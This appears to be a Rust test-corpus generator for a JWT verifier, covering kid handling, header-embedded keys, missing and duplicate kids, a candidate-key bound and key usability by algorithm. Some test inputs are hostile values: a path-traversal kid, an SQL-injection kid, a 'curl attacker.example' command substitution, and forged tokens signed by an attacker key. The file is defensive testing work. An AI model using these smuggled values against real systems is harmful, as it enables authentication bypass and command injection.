//! Key selection: `kid` values, header-supplied keys (`jwk`, `jku`, `x5u`, `x5c`),
//! tokens without `kid`, duplicate `kid`s, the candidate bound, key usability by `alg`.

use super::{main_token, std_payload, NOW};
use crate::corpus::Corpus;
use crate::json::s;
use crate::keys::{jwk, Keys};
use crate::sign::{self, b64_std, Hash};
use rsa::pkcs8::EncodePublicKey;

pub fn cases(c: &mut Corpus, k: &Keys) {
    kid_values(c, k);
    header_keys(c, k);
    no_kid(c, k);
    duplicates(c, k);
    usability(c, k);
}

fn kid_values(c: &mut Corpus, k: &Keys) {
    let p = std_payload();
    let unknown: &[(&str, &str, String)] = &[
        (
            "kid_path_traversal",
            "kid is a path traversal.",
            "../../../../../../dev/null".into(),
        ),
        (
            "kid_sql_injection",
            "kid is an SQL injection.",
            "' UNION SELECT 'secret' AS key --".into(),
        ),
        (
            "kid_command_injection",
            "kid is a shell command substitution.",
            "main$(curl attacker.example)".into(),
        ),
        (
            "kid_url",
            "kid is a URL to an attacker's key.",
            "https://attacker.example/jwks.json".into(),
        ),
        ("kid_10kb", "kid is a 10 KiB string.", "A".repeat(10 * 1024)),
        ("kid_empty", "kid is the empty string.", String::new()),
        (
            "kid_wrong_case",
            "kid MAIN: kids compare exactly.",
            "MAIN".into(),
        ),
        ("kid_trailing_space", "kid \"main \".", "main ".into()),
        (
            "kid_with_nul",
            "kid \"main\\u0000\" (an embedded NUL).",
            "main\u{0}".into(),
        ),
        (
            "kid_rotated_out",
            "kid of a key that is not in this set.",
            "rotated".into(),
        ),
    ];
    for (name, about, kid) in unknown {
        let header = format!(
            r#"{{"alg":"RS256","kid":{}}}"#,
            serde_json::to_string(kid).expect("str")
        );
        c.case(
            name,
            about,
            "main",
            "default",
            NOW,
            sign::token(&k.main, &header, &p),
            "unknown_kid",
        );
    }
    for (name, kid) in [
        ("kid_number", "1"),
        ("kid_object", r#"{"kid":"main"}"#),
        ("kid_array", r#"["main"]"#),
        ("kid_null", "null"),
        ("kid_bool", "true"),
    ] {
        let header = format!(r#"{{"alg":"RS256","kid":{kid}}}"#);
        c.case(
            name,
            &format!("kid is {kid}, not a string."),
            "main",
            "default",
            NOW,
            sign::token(&k.main, &header, &p),
            "malformed",
        );
    }
    // The ignored registered members keep their RFC 7515 types (4.1.2-4.1.8), as kid does.
    for (name, member) in [
        ("jku_number", r#""jku":5"#),
        ("x5u_object", r#""x5u":{"u":"https://a"}"#),
        ("x5t_number", r#""x5t":5"#),
        ("x5t_s256_array", r#""x5t#S256":["a"]"#),
        ("x5c_string", r#""x5c":"MIIB""#),
        ("x5c_empty_array", r#""x5c":[]"#),
        ("x5c_number_inside", r#""x5c":[1]"#),
        ("jwk_string", r#""jwk":"main""#),
    ] {
        let header = format!(r#"{{"alg":"RS256","kid":"main",{member}}}"#);
        c.case(
            &format!("header_{name}"),
            &format!("Header member {member} has the wrong JSON type (RFC 7515 4.1)."),
            "main",
            "default",
            NOW,
            sign::token(&k.main, &header, &p),
            "malformed",
        );
    }
    // Keys found by kid in the set but skipped by the core.
    for (name, kid, about) in [
        (
            "kid_names_skipped_1024_key",
            "rsa1024",
            "kid names a 1024-bit key the set skipped; signed by that key.",
        ),
        ("kid_names_ec_key", "ec", "kid names an EC key under RS256."),
        (
            "kid_names_oct_key",
            "hmac",
            "kid names an oct (HMAC) key under RS256.",
        ),
        (
            "kid_names_enc_key",
            "enc",
            "kid names an RSA key published with use enc.",
        ),
    ] {
        let signer = if kid == "rsa1024" {
            &k.rsa1024
        } else {
            &k.main
        };
        let header = format!(r#"{{"alg":"RS256","kid":"{kid}"}}"#);
        c.case(
            name,
            about,
            "mixed",
            "default",
            NOW,
            sign::token(signer, &header, &p),
            "unknown_kid",
        );
    }
    c.case(
        "mixed_set_usable_key_ok",
        "The one usable key of a mixed set verifies.",
        "mixed",
        "default",
        NOW,
        main_token(k, &p),
        "ok",
    )
    .claim("sub", s("alice"));
}

fn header_keys(c: &mut Corpus, k: &Keys) {
    let p = std_payload();
    let attacker_jwk = jwk(&k.attacker, None, &[]).compact();
    let attacker_kid_jwk = jwk(&k.attacker, Some("attacker"), &[]).compact();
    let der = k.attacker.to_public_key().to_public_key_der().expect("der");
    let forged: &[(&str, &str, String, &'static str)] = &[
        (
            "jwk_attacker_no_kid",
            "Signed by an attacker key embedded as jwk; no kid (the set's one key is tried).",
            format!(r#"{{"alg":"RS256","jwk":{attacker_jwk}}}"#),
            "bad_signature",
        ),
        (
            "jwk_attacker_kid_main",
            "Signed by an attacker key embedded as jwk, claiming kid main.",
            format!(r#"{{"alg":"RS256","kid":"main","jwk":{attacker_jwk}}}"#),
            "bad_signature",
        ),
        (
            "jwk_attacker_own_kid",
            "Signed by an attacker key embedded as jwk with its own kid.",
            format!(r#"{{"alg":"RS256","kid":"attacker","jwk":{attacker_kid_jwk}}}"#),
            "unknown_kid",
        ),
        (
            "jku_attacker",
            "Signed by an attacker key published at a jku URL (never fetched).",
            r#"{"alg":"RS256","kid":"main","jku":"https://attacker.example/jwks.json"}"#.to_owned(),
            "bad_signature",
        ),
        (
            "jku_attacker_own_kid",
            "jku pointing at the attacker's JWKS with the attacker's kid.",
            r#"{"alg":"RS256","kid":"attacker","jku":"https://attacker.example/jwks.json"}"#
                .to_owned(),
            "unknown_kid",
        ),
        (
            "x5u_attacker",
            "Signed by an attacker key published at an x5u URL (never fetched).",
            r#"{"alg":"RS256","kid":"main","x5u":"https://attacker.example/cert.pem"}"#.to_owned(),
            "bad_signature",
        ),
        (
            "x5c_attacker",
            "Signed by an attacker key carried in x5c.",
            format!(
                r#"{{"alg":"RS256","kid":"main","x5c":["{}"]}}"#,
                b64_std(der.as_bytes())
            ),
            "bad_signature",
        ),
        (
            "x5c_attacker_no_kid",
            "Signed by an attacker key carried in x5c, no kid.",
            format!(r#"{{"alg":"RS256","x5c":["{}"]}}"#, b64_std(der.as_bytes())),
            "bad_signature",
        ),
    ];
    for (name, about, header, expect) in forged {
        c.case(
            name,
            about,
            "main",
            "default",
            NOW,
            sign::token(&k.attacker, header, &p),
            expect,
        );
    }
    let legit = format!(
        r#"{{"alg":"RS256","kid":"main","jwk":{}}}"#,
        jwk(&k.main, Some("main"), &[]).compact()
    );
    c.case(
        "jwk_header_ignored_ok",
        "A jwk header holding the trusted key itself is ignored; the set's key verifies.",
        "main",
        "default",
        NOW,
        sign::token(&k.main, &legit, &p),
        "ok",
    );
}

fn no_kid(c: &mut Corpus, k: &Keys) {
    let p = std_payload();
    let h = r#"{"alg":"RS256","typ":"JWT"}"#;
    c.case(
        "no_kid_one_key_set_ok",
        "No kid, a one-key set whose key has a kid: the key is tried.",
        "main",
        "default",
        NOW,
        sign::token(&k.main, h, &p),
        "ok",
    )
    .claim("sub", s("alice"));
    c.case(
        "no_kid_key_without_kid_ok",
        "No kid, a key without kid.",
        "main_no_kid",
        "default",
        NOW,
        sign::token(&k.main, h, &p),
        "ok",
    );
    c.case(
        "kid_against_key_without_kid",
        "kid main against a set whose only key has no kid.",
        "main_no_kid",
        "default",
        NOW,
        main_token(k, &p),
        "unknown_kid",
    );
    c.case(
        "no_kid_rotation_second_key_ok",
        "No kid, two keys: the second one verifies.",
        "rotation",
        "default",
        NOW,
        sign::token(&k.rotated, h, &p),
        "ok",
    );
    c.case(
        "no_kid_wrong_key",
        "No kid, signed by a key outside the set.",
        "rotation",
        "default",
        NOW,
        sign::token(&k.attacker, h, &p),
        "bad_signature",
    );
    c.case(
        "no_kid_four_keys_fourth_ok",
        "No kid, four keys (the candidate bound): the fourth verifies.",
        "four_no_kid",
        "default",
        NOW,
        sign::token(&k.rsa4096, h, &p),
        "ok",
    );
    c.case(
        "no_kid_five_keys",
        "No kid, five usable keys: more than MAX_CANDIDATES (4), refused without trying.",
        "five_no_kid",
        "default",
        NOW,
        sign::token(&k.main, h, &p),
        "unknown_kid",
    );
    c.case(
        "no_kid_five_keys_with_kids",
        "No kid against five keys that have kids: still more than 4 candidates.",
        "five_with_kid",
        "default",
        NOW,
        sign::token(&k.main, h, &p),
        "unknown_kid",
    );
    c.case(
        "kid_five_keys_fifth_ok",
        "kid e3 against five keys: exactly one candidate.",
        "five_with_kid",
        "default",
        NOW,
        sign::token(&k.e3, r#"{"alg":"RS256","kid":"e3"}"#, &p),
        "ok",
    );
    c.case(
        "rotation_new_key_ok",
        "kid rotated in a two-key set.",
        "rotation",
        "default",
        NOW,
        sign::token(&k.rotated, r#"{"alg":"RS256","kid":"rotated"}"#, &p),
        "ok",
    );
    c.case(
        "rotation_kid_swapped",
        "Signed by the rotated key but naming kid main.",
        "rotation",
        "default",
        NOW,
        sign::token(&k.rotated, super::H_MAIN, &p),
        "bad_signature",
    );
}

fn duplicates(c: &mut Corpus, k: &Keys) {
    let p = std_payload();
    let h = r#"{"alg":"RS256","kid":"shared"}"#;
    c.case(
        "dup_kid_first_ok",
        "Two keys share a kid: signed by the first.",
        "dup_kid",
        "default",
        NOW,
        sign::token(&k.main, h, &p),
        "ok",
    );
    c.case(
        "dup_kid_second_ok",
        "Two keys share a kid: signed by the second (both are tried).",
        "dup_kid",
        "default",
        NOW,
        sign::token(&k.rotated, h, &p),
        "ok",
    );
    c.case(
        "dup_kid_attacker",
        "Two keys share a kid: signed by neither.",
        "dup_kid",
        "default",
        NOW,
        sign::token(&k.attacker, h, &p),
        "bad_signature",
    );
    c.case(
        "dup_kid_5_fourth_ok",
        "Five keys share a kid: the fourth is within the candidate bound.",
        "dup_kid_5",
        "default",
        NOW,
        sign::token(&k.rsa4096, h, &p),
        "ok",
    );
    c.case(
        "dup_kid_5_fifth_not_tried",
        "Five keys share a kid: the fifth is beyond the bound of 4 and never tried.",
        "dup_kid_5",
        "default",
        NOW,
        sign::token(&k.e3, h, &p),
        "bad_signature",
    );
}

fn usability(c: &mut Corpus, k: &Keys) {
    let p = std_payload();
    let t = |key, alg: &str, hash, kid: &str| {
        sign::token_with(
            key,
            hash,
            format!(r#"{{"alg":"{alg}","kid":"{kid}"}}"#).as_bytes(),
            p.as_bytes(),
        )
    };
    c.case(
        "rs384_key_pinned_rs256",
        "RS384 allowed by policy, but the kid's JWK says alg RS256.",
        "alg_pinned",
        "rs_all",
        NOW,
        t(&k.main, "RS384", Hash::S384, "main"),
        "unknown_kid",
    );
    c.case(
        "rs256_key_pinned_rs512",
        "RS256 token naming a key whose JWK says alg RS512.",
        "alg_pinned",
        "rs_all",
        NOW,
        t(&k.rotated, "RS256", Hash::S256, "rs512"),
        "unknown_kid",
    );
    c.case(
        "rs512_key_pinned_rs512_ok",
        "RS512 token, key pinned to RS512, policy allows it.",
        "alg_pinned",
        "rs_all",
        NOW,
        t(&k.rotated, "RS512", Hash::S512, "rs512"),
        "ok",
    );
    c.case(
        "rs384_key_without_alg_ok",
        "RS384 token, 3072-bit key without alg, policy allows RS384.",
        "alg_pinned",
        "rs_all",
        NOW,
        t(&k.rsa3072, "RS384", Hash::S384, "any"),
        "ok",
    );
    c.case(
        "rs384_only_policy_ok",
        "RS384 token under an RS384-only policy, key without alg.",
        "alg_pinned",
        "rs384_only",
        NOW,
        t(&k.rsa3072, "RS384", Hash::S384, "any"),
        "ok",
    );
    c.case(
        "rs256_key_pinned_rs256_ok",
        "RS256 token, key pinned to RS256.",
        "alg_pinned",
        "rs_all",
        NOW,
        t(&k.main, "RS256", Hash::S256, "main"),
        "ok",
    );
    c.case(
        "rs3072_ok",
        "A 3072-bit key.",
        "large_keys",
        "default",
        NOW,
        t(&k.rsa3072, "RS256", Hash::S256, "rsa3072"),
        "ok",
    );
    c.case(
        "rs4096_ok",
        "A 4096-bit key.",
        "large_keys",
        "default",
        NOW,
        t(&k.rsa4096, "RS256", Hash::S256, "rsa4096"),
        "ok",
    );
    c.case(
        "rs4096_rs512_key_pinned_rs256",
        "RS512 by a 4096-bit key whose JWK says alg RS256: not usable for RS512.",
        "large_keys",
        "rs_all",
        NOW,
        t(&k.rsa4096, "RS512", Hash::S512, "rsa4096"),
        "unknown_kid",
    );
    c.case(
        "e3_key_honest_ok",
        "An honest signature by the e = 3 key.",
        "e3",
        "default",
        NOW,
        t(&k.e3, "RS256", Hash::S256, "e3"),
        "ok",
    );
}
